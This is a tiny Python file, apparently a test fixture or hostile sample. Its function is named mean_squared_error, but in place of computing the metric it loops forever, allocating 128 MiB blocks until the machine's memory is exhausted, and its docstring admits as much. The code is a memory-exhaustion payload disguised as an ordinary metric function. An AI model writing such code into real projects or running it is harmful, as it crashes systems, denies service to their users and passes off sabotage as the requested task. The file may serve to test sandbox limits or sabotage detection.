"""Takes memory without end."""


def mean_squared_error(y_true, y_pred):
    blocks = []
    while True:
        blocks.append(bytearray(b'x') * 2**27)
